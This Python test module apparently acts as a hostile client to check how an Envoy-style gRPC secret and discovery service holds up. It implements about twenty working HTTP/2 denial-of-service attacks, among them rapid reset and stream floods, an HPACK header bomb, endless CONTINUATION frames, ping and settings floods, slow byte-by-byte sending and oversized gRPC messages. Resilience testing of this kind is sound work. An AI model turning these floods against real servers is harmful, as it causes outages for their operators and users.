"""What a hostile pod sends to its sockets: HTTP/2 frame by frame (threats-and-faults.md T8, T9).

Each attack takes what is in _Attack and returns its counts; `pod.call(attacker.attack, name, path, seconds)`
runs it in the pod.  An attack that is cut off connects again: it is over when its time is.
"""
import contextlib
import os
import select
import socket
import struct
import time

from .h2 import _frame, _headers

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
SDS = '/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets'
ADS = '/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources'
LAST_STREAM = 1 << 30


class _Attack:
    def __init__(self, path, seconds, stop):
        self.path, self._end, self._stop = str(path), time.monotonic() + seconds, stop
        self.counts = {'connections': 0, 'cut': 0, 'frames': 0, 'bytes': 0}

    def on(self):
        return time.monotonic() < self._end and not (self._stop and os.path.exists(self._stop))

    def connect(self, settings=b'', reads=True):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(0.5)
        s.connect(self.path)
        self.counts['connections'] += 1
        self._reads = reads
        self.send(s, PREFACE + _frame(SETTINGS, 0, 0, settings), 1)
        return s

    def send(self, s, data, frames):
        """As fast as the other side takes it; what it says is thrown away."""
        s.sendall(data)
        self.counts['frames'] += frames
        self.counts['bytes'] += len(data)
        if self._reads and select.select([s], [], [], 0)[0] and not s.recv(1 << 20):
            raise ConnectionResetError

    def again(self, once):
        """once() until the time is over; the other side may hang up whenever it likes."""
        while self.on():
            try:
                once()
            except TimeoutError:
                pass  # it does not read any more: good
            except OSError:
                self.counts['cut'] += 1
            time.sleep(0.002)
        return self.counts


def _grow(a, s, windows):
    """What the other side's frames do to the windows of the connection (0) and of stream 1."""
    heard = s.recv(1 << 16)
    if not heard:
        raise ConnectionResetError
    while len(heard) >= 9:
        size = int.from_bytes(heard[:3], 'big')
        while len(heard) < 9 + size:
            heard += s.recv(1 << 16) or b'\0' * size
        if heard[3] == RST:
            raise ConnectionResetError
        if heard[3] == WINDOW:
            windows[int.from_bytes(heard[5:9], 'big')] += int.from_bytes(heard[9:13], 'big')
        heard = heard[9 + size:]


def huge_message(a):
    """A gRPC message that claims 1 GiB, as much of it as the other side's windows allow."""
    def once():
        with contextlib.closing(a.connect(reads=False)) as s:
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS)), 1)
            a.send(s, _frame(DATA, 0, 1, struct.pack('>BI', 0, 1 << 30)), 1)
            windows = {0: 65535 - 5, 1: 65535 - 5}
            while a.on():
                while min(windows.values()) >= 1 << 14:
                    a.send(s, _frame(DATA, 0, 1, bytes(1 << 14)), 1)
                    windows = {n: w - (1 << 14) for n, w in windows.items()}
                _grow(a, s, windows)
    return a.again(once)


def large_message(a):
    """5 MiB, whole: more than may be, less than what breaks a connection."""
    def once():
        with contextlib.closing(a.connect(reads=False)) as s:
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS)), 1)
            left = 5 << 20
            a.send(s, _frame(DATA, 0, 1, struct.pack('>BI', 0, left)), 1)
            windows = {0: 65535 - 5, 1: 65535 - 5}
            while a.on():
                while left and min(windows.values()) >= 1 << 14:
                    a.send(s, _frame(DATA, 0, 1, bytes(1 << 14)), 1)
                    windows, left = {n: w - (1 << 14) for n, w in windows.items()}, left - (1 << 14)
                _grow(a, s, windows)
    return a.again(once)


def _streams(a, of_one, each):
    """Two hundred streams in a write."""
    def once():
        with contextlib.closing(a.connect()) as s:
            for first in range(1, LAST_STREAM, 400):
                if not a.on():
                    return
                a.send(s, b''.join(of_one(n) for n in range(first, first + 400, 2)), each * 200)
    return a.again(once)


def reset_flood(a):
    """Streams that are opened and reset at once."""
    headers, reset = _headers(SDS), struct.pack('>I', 8)
    return _streams(a, lambda n: _frame(HEADERS, END_HEADERS, n, headers) + _frame(RST, 0, n, reset), 2)


def stream_flood(a):
    """Streams that stay open, more than the other side allows."""
    headers = _headers(SDS)
    return _streams(a, lambda n: _frame(HEADERS, END_HEADERS, n, headers), 1)


def header_bomb(a):
    """One large header in HPACK's table, then as many references to it as fit: 60 MB in 16 KB."""
    large = b'\x40\x01a\x7f\xa1\x1e' + b'x' * 4000  # the length: 127 + 0x21 + (0x1e << 7)

    def once():
        with contextlib.closing(a.connect()) as s:
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS) + large), 1)
            for n in range(3, LAST_STREAM, 2):
                if not a.on():
                    return
                a.send(s, _frame(HEADERS, END_HEADERS, n, _headers(SDS) + b'\xbe' * 16000), 1)
    return a.again(once)


def endless_continuation(a):
    """Headers that never end."""
    literal = (b'\0\x01b\x7e' + b'y' * 126) * 126

    def once():
        with contextlib.closing(a.connect()) as s:
            a.send(s, _frame(HEADERS, 0, 1, _headers(SDS)), 1)
            while a.on():
                a.send(s, _frame(CONTINUATION, 0, 1, literal), 1)
    return a.again(once)


def references(a):
    """Fields of one byte each, in blocks of 128 KB: what they name is in HPACK's own table."""
    field = b'\xa0'  # cookie

    def once():
        with contextlib.closing(a.connect()) as s:
            for n in range(1, LAST_STREAM, 2):
                if not a.on():
                    return
                a.send(s, _frame(HEADERS, 0, n, _headers(SDS)), 1)
                for _ in range(8):
                    a.send(s, _frame(CONTINUATION, 0, n, field * 16000), 1)
                a.send(s, _frame(CONTINUATION, END_HEADERS, n), 1)
    return a.again(once)


def small_references(a):
    """The same, in blocks that are short enough."""
    def once():
        with contextlib.closing(a.connect()) as s:
            for n in range(1, LAST_STREAM, 2):
                if not a.on():
                    return
                a.send(s, _frame(HEADERS, END_HEADERS, n, _headers(SDS) + b'\xa0' * 2000), 1)
    return a.again(once)


def _hold(a, connect, most, pause_s):
    """As many connections as there may be: the oldest goes for the newest."""
    held = []
    while a.on():
        try:
            connect(held)
        except OSError:
            a.counts['cut'] += 1
        if len(held) > most:
            held.pop(0).close()
        time.sleep(pause_s)
    for s in held:
        s.close()
    return a.counts


def half_open(a):
    """Each with a block of 12 KB that does not end."""
    literal = (b'\0\x01b\x7e' + b'y' * 126) * 92

    def connect(held):
        held.append(a.connect())
        a.send(held[-1], _frame(HEADERS, 0, 1, _headers(SDS)) + _frame(CONTINUATION, 0, 1, literal), 2)
    return _hold(a, connect, 64, 0.005)


def many_messages(a):
    """A hundred messages under way at once, each of 3 MiB: all of each but its end, as the windows allow."""
    size = 3 << 20

    def once():
        with contextlib.closing(a.connect(reads=False)) as s:
            streams = range(1, 200, 2)
            left = {n: size for n in streams}
            windows = {0: 65535, **dict.fromkeys(streams, 65535)}
            for n in streams:
                a.send(s, _frame(HEADERS, END_HEADERS, n, _headers(SDS)), 1)
            begun = set()
            while a.on():
                for n in streams:
                    part = min(windows[0], windows[n], left[n], 1 << 14)
                    if part < 1024:
                        continue
                    data = struct.pack('>BI', 0, size) if n not in begun else b''
                    begun.add(n)
                    a.send(s, _frame(DATA, 0, n, data.ljust(part, b'\0')), 1)
                    windows[0] -= part
                    windows[n] -= part
                    left[n] -= part
                if select.select([s], [], [], 0.02)[0]:
                    _grow(a, s, windows)
    return a.again(once)


def whole_messages(a):
    """Two hundred streams with a whole message of 60 KB each, on connection after connection: none is read in time."""
    data = struct.pack('>BI', 0, 60_000) + bytes(60_000)
    held = []

    def once():
        s = a.connect()
        held.append(s)
        for n in range(1, 200, 2):
            a.send(s, _frame(HEADERS, END_HEADERS, n, _headers(SDS)), 1)
            for at in range(0, len(data), 1 << 14):
                a.send(s, _frame(DATA, 0, n, data[at:at + (1 << 14)]), 1)
        while a.on():
            time.sleep(0.05)
            a.send(s, b'', 0)
    counts = a.again(once)
    for s in held:
        s.close()
    return counts


def _frames_for_ever(a, frame, reads):
    def once():
        with contextlib.closing(a.connect(reads=reads)) as s:
            while a.on():
                a.send(s, frame * 500, 500)
    return a.again(once)


def ping_flood(a):
    return _frames_for_ever(a, _frame(PING, 0, 0, bytes(8)), True)


def ping_flood_unread(a):
    """The answers are not taken."""
    return _frames_for_ever(a, _frame(PING, 0, 0, bytes(8)), False)


def settings_flood(a):
    return _frames_for_ever(a, _frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW, 65535)), False)


def empty_data(a):
    """Frames that carry nothing, on a stream."""
    def once():
        with contextlib.closing(a.connect()) as s:
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS)), 1)
            while a.on():
                a.send(s, _frame(DATA, 0, 1, b'') * 500, 500)
    return a.again(once)


def garbage(a):
    def once():
        with contextlib.closing(a.connect()) as s:
            a.send(s, bytes(range(256)) * 64, 1)
    return a.again(once)


def silent(a):
    """They say nothing, or a byte of the preface."""
    def connect(held):
        held.append(socket.socket(socket.AF_UNIX))
        held[-1].connect(a.path)
        a.counts['connections'] += 1
        if len(held) % 2:
            held[-1].send(PREFACE[:1])
    return _hold(a, connect, 200, 0.02)


def byte_by_byte(a):
    """A call that never gets complete."""
    hello = PREFACE + _frame(SETTINGS, 0, 0) + _frame(HEADERS, END_HEADERS, 1, _headers(SDS))

    def once():
        with contextlib.closing(socket.socket(socket.AF_UNIX)) as s:
            s.connect(a.path)
            a.counts['connections'] += 1
            a._reads = True
            for at in range(len(hello)):
                if not a.on():
                    return
                a.send(s, hello[at:at + 1], 0)
                time.sleep(0.05)
    return a.again(once)


def reconnects(path, n):
    """No attack: a secret asked for on a connection of its own, n times; how often it came."""
    ask, got = _ask('extensions.transport_sockets.tls.v3.Secret', 'ROOTCA'), 0
    hello = PREFACE + _frame(SETTINGS, 0, 0) + _frame(HEADERS, END_HEADERS, 1, _headers(SDS)) + _frame(DATA, 0, 1, ask)
    for _ in range(n):
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(60)
            s.connect(str(path))
            s.sendall(hello)
            heard = b''
            while b'BEGIN CERTIFICATE' not in heard:
                more = s.recv(1 << 16)
                if not more:
                    break
                heard += more
            got += b'BEGIN CERTIFICATE' in heard
    return got


def hoard(a):
    """Connections that are used once and kept."""
    held = []
    while a.on():
        try:
            s = a.connect()
            held.append(s)
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS)), 1)
        except OSError:
            a.counts['cut'] += 1
        time.sleep(0.004)
    for s in held:
        s.close()
    return a.counts


def request(kind, *names):
    """The first on a stream."""
    from envoy.config.core.v3 import base_pb2
    from envoy.service.discovery.v3 import discovery_pb2
    return discovery_pb2.DiscoveryRequest(
        node=base_pb2.Node(id='sidecar~10.0.0.1~a.demo~demo.svc.cluster.local'), type_url=f'type.googleapis.com/envoy.{kind}', resource_names=names).SerializeToString()


def _ask(kind, *names):
    ask = request(kind, *names)
    return struct.pack('>BI', 0, len(ask)) + ask


def no_window(a):
    """Asks for everything on a hundred streams and opens no window for any answer."""
    ask = _ask('config.cluster.v3.Cluster')

    def once():
        with contextlib.closing(a.connect(struct.pack('>HI', INITIAL_WINDOW, 0), reads=False)) as s:
            for n in range(1, 200, 2):
                a.send(s, _frame(HEADERS, END_HEADERS, n, _headers(ADS)) + _frame(DATA, 0, n, ask), 2)
            while a.on():
                time.sleep(0.05)
                a.send(s, b'', 0)
                if select.select([s], [], [], 0)[0] and not s.recv(1 << 16):
                    return
    return a.again(once)


def message_flood(a):
    """Requests as fast as they are taken, on one stream."""
    ask = _ask('extensions.transport_sockets.tls.v3.Secret', 'default')

    def once():
        with contextlib.closing(a.connect(reads=False)) as s:
            a.send(s, _frame(HEADERS, END_HEADERS, 1, _headers(SDS)), 1)
            windows = {0: 65535, 1: 65535}
            while a.on():
                while min(windows.values()) >= len(ask):
                    a.send(s, _frame(DATA, 0, 1, ask), 1)
                    windows = {n: w - len(ask) for n, w in windows.items()}
                _grow(a, s, windows)
    return a.again(once)


ATTACKS = {f.__name__: f for f in (
    huge_message, large_message, reset_flood, stream_flood, header_bomb, endless_continuation,
    references, small_references, half_open, many_messages, whole_messages, ping_flood,
    ping_flood_unread, settings_flood, empty_data, garbage, silent, byte_by_byte, no_window, message_flood)}


def attack(name, path, seconds, stop=None):
    """`stop`: or until that file is there."""
    return {**ATTACKS, 'hoard': hoard}[name](_Attack(path, seconds, stop))
